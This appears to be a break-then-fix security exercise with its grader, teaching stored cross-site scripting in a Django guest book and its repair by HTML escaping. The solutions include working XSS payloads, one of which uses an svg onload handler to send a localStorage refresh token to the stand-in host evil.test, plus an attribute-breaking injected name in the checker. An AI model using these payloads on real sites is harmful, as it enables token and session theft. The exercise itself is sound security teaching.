# %% exercise [markdown]
# title: Rob the page, then repair it
# stage: faded
# minutes: 12
# concepts: [escaping, cross-site scripting]
# security: true
# break_then_fix: true
# site: seed
# django: true
#
# First break it. `ATTACK` is a message for the guest book of the seed, which puts it into the page with `innerHTML`. Somebody
# else's script runs as soon as the page is loaded, and the reader sees no text of it.
#
# Then `book`, the view of a better one: `<ul>` with one `<li title="name">message</li>` for each entry, newest first. Readers
# see what visitors wrote, character by character, and none of it is code. Fill in `items`.

# %% solution
from django.http import HttpResponse
from django.utils.html import format_html_join

from notes.models import GuestBookEntry

# << ATTACK = ...
ATTACK = "<img src onerror=alert(localStorage.refresh)>"
# >>


def book(request):
    entries = GuestBookEntry.objects.all()
    # << items = ...
    items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
    # >>
    return HttpResponse(f"<ul>{items}</ul>")


# %% also_right: by-hand [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# + from html import escape
# +
# + items = "".join(f'<li title="{escape(entry.name)}">{escape(entry.message)}</li>' for entry in entries)

# %% also_right: by-a-template
from django.http import HttpResponse
from django.template import Context, Engine

from notes.models import GuestBookEntry

ATTACK = "<svg onload=\"fetch('//evil.test/?' + localStorage.refresh)\"></svg>"
ITEMS = Engine().from_string(
    '{% for entry in entries %}<li title="{{ entry.name }}">{{ entry.message }}</li>{% endfor %}'
)


def book(request):
    items = ITEMS.render(Context({"entries": GuestBookEntry.objects.all()}))
    return HttpResponse(f"<ul>{items}</ul>")


# %% wrong: a-policy-in-its-place -> code-stays-code | misconception: csp-stops-every-script [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# - return HttpResponse(f"<ul>{items}</ul>")
# + items = "".join(f'<li title="{entry.name}">{entry.message}</li>' for entry in entries)
# + return HttpResponse(f"<ul>{items}</ul>", headers={"Content-Security-Policy": "default-src 'self'"})

# %% wrong: without-script-elements -> code-stays-code | slip [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# + items = "".join(
# +     f'<li title="{entry.name}">{entry.message.replace("<script", "&lt;script")}</li>' for entry in entries
# + )

# %% wrong: the-helper-gets-the-whole -> code-stays-code | slip [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# + from django.utils.html import format_html
# +
# + items = "".join(format_html(f'<li title="{{}}">{entry.message}</li>', entry.name) for entry in entries)

# %% wrong: the-message-alone -> out-of-the-attribute | slip [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# + from html import escape
# +
# + items = "".join(f'<li title="{entry.name}">{escape(entry.message)}</li>' for entry in entries)

# %% wrong: two-characters -> out-of-the-attribute | slip [markdown]
# - items = format_html_join("", '<li title="{}">{}</li>', ((entry.name, entry.message) for entry in entries))
# + clean = lambda text: text.replace("&", "&amp;").replace("<", "&lt;")
# + items = "".join(f'<li title="{clean(entry.name)}">{clean(entry.message)}</li>' for entry in entries)

# %% wrong: tags-stripped -> text-lost | slip [markdown]
# - (entry.name, entry.message)
# + (entry.name, __import__("django.utils.html").utils.html.strip_tags(entry.message))

# %% wrong: twice -> escaped-twice | slip [markdown]
# - (entry.name, entry.message)
# + (entry.name, __import__("html").escape(entry.message))

# %% wrong: a-script-element -> nothing-runs | slip [markdown]
# - ATTACK = "<img src onerror=alert(localStorage.refresh)>"
# + ATTACK = "<script>alert(localStorage.refresh)</script>"

# %% wrong: a-picture-that-loads -> nothing-runs | misconception: localstorage-is-for-all [markdown]
# - ATTACK = "<img src onerror=alert(localStorage.refresh)>"
# + ATTACK = "<iframe src='http://evil.test/read-localstorage/'></iframe>"

# %% wrong: it-needs-a-click -> nothing-runs | slip [markdown]
# - ATTACK = "<img src onerror=alert(localStorage.refresh)>"
# + ATTACK = "<a onclick=alert(localStorage.refresh)></a>"

# %% wrong: with-a-greeting -> text-is-seen | slip [markdown]
# - ATTACK = "<img
# + ATTACK = "Hello! <img

# %% check
from html.parser import HTMLParser

from jwtlab.checker.api.failures import fail

BY_HAND = ("onclick", "ondbl", "onmouse", "onkey", "onpointer", "ondrag", "ontouch", "onwheel", "onscroll")


class Page(HTMLParser):
    """What a browser makes of a page: elements, their handlers, and for each <li> its title and text."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.handlers, self.items, self.outside = [], [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.handlers += [name for name, _ in attributes if name.startswith("on")]
        if tag == "li":
            self.items.append([dict(attributes).get("title"), ""])
            self.in_item = True

    def handle_endtag(self, tag):
        self.in_item = self.in_item and tag != "li"

    in_item = False

    def handle_data(self, data):
        if self.in_item:
            self.items[-1][1] += data
        else:
            self.outside += data


def check(learner, site):
    attack = learner.value("ATTACK").value
    signed = sign(site, "mallory", attack)
    on_it = Page(str(attack))
    by_itself = [name for name in on_it.handlers if not name.startswith(BY_HAND)]
    if signed.status != 201 or not by_itself:
        told("nothing-runs", attack, "nothing that runs when the page is loaded", "a script that runs")
    if on_it.outside.strip():
        told("text-is-seen", attack, f"the reader sees: {on_it.outside.strip()}", "no text to be seen")

    sign(site, "alice", "1 < 2 & 2 > 1, <b>says</b> \"alice\" & 'I'\n")
    sign(site, 'x" onmouseover="alert(1)', "Move your mouse over me.")
    learner.mount("book/", "book")
    better = site.get("/book/")
    better.expect(200, key="text-lost")
    page = Page(better.text)
    if set(page.tags) - {"ul", "li"}:
        shown = " ".join(f"<{tag}>" for tag in page.tags)
        better.fail("code-stays-code", wanted="<ul> and <li>, and no other element", saw=f"elements: {shown}")
    if page.handlers:
        saw = '<li title="x" onmouseover="alert(1)">'
        better.fail("out-of-the-attribute", wanted="an <li> with a title, and no other attribute", saw=saw)
    entries = site.get("/api/guestbook/").json
    wanted = [[entry["name"], entry["message"]] for entry in entries]
    shown = [[name, text.strip()] for name, text in page.items]
    if any("&lt;" in text for _, text in shown):
        better.fail(
            "escaped-twice",
            wanted=f"readers see {wanted[1][1]}",
            saw=f"readers see {shown[1][1] if len(shown) > 1 else shown}",
        )
    if shown != wanted or page.outside.strip():
        differ = [pair for pair in zip(shown, wanted, strict=False) if pair[0] != pair[1]]
        counts = f"{len(shown)} entries", f"{len(wanted)} entries, and nothing else"
        saw, right = differ[0] if differ else counts
        better.fail("text-lost", wanted=f"{right}", saw=f"{saw}")


def told(key, attack, saw, wanted):
    fail(key, sent=f"ATTACK = {attack!r}", saw=saw, wanted=wanted)


def sign(site, name, message):
    return site.post("/api/guestbook/", json={"name": name, "message": str(message)})


# %% message: nothing-runs [markdown]
# The page is loaded, and no script of yours runs in it
#
# `innerHTML` runs no script elements, and a page of another origin cannot read this one. What does an element do by itself?
# Notebook 04, *How does a stranger's script get into your page?*

# %% message: text-is-seen [markdown]
# The attack runs, and the reader sees that something is odd
#
# Notebook 04, *How does a stranger's script get into your page?* has an entry of which nothing is to be seen.

# %% message: code-stays-code [markdown]
# What a visitor wrote is still code in the page
#
# A policy is a second line, and a list of bad words never ends. Which characters make an element? Notebook 04, *What is the
# repair?*

# %% message: out-of-the-attribute [markdown]
# A visitor's name leaves its attribute and becomes another
#
# Text can stand between tags or between quotes. What ends it in each of the two? Notebook 04, *What is the repair?*

# %% message: text-lost [markdown]
# Readers see something else than the visitor wrote
#
# Escaping loses nothing: a visitor who writes `<b>` is shown `<b>`. Notebook 04, *What is the repair?*

# %% message: escaped-twice [markdown]
# Readers see the escapes
#
# Django marks text that is escaped already, and the standard library does not. How often is yours escaped? Django's
# documentation, *django.utils.html*.

# %% hint 1 [markdown]
# The attack: an element that fails to load runs a handler. The repair: name and message both come from strangers, and stand
# in two different places.

# %% hint 2 [markdown]
# The import above has what is needed. It takes a separator, a format with one `{}` for each value, and the values as tuples.
# It escapes the values.

# %% hint 3 [markdown]
# `items = format_html_join("", …, ((entry.name, …) for entry in entries))`

# %% proven [markdown]
# On the seed's page your message is code. In your view it is text, and so are a name with a quote in it and a message full
# of `<`, `>`, `&` and quotes.

# %% not checked [markdown]
# Other places for text: in a `<script>`, in a URL, in a style. Each ends in another way, and escaping for HTML does not help
# there.
